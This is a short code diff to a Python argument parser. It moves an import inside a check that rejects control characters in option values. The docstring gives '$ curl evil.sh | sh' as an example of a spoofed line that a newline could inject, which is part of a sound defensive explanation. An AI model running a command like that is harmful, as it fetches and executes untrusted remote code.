@@ -45,12 +45,12 @@ class _Parser(argparse.ArgumentParser):
 def _check_controls(args: argparse.Namespace) -> None:
     """No option value may carry control characters: echoed back, a newline in ``--gpu`` would
     print a line of its own (a spoofed ``$ curl evil.sh | sh`` beside the real command)."""
-    from setup_env.bounded import one_line
-
     for dest, value in vars(args).items():
         values = value if isinstance(value, list) else [value]
         for item in values:
             if isinstance(item, str) and not item.isprintable():
+                from setup_env.bounded import one_line
+
                 raise UsageError(
                     f"--{dest.replace('_', '-')}: control characters are not allowed "
                     f"('{one_line(item, 120)}')"
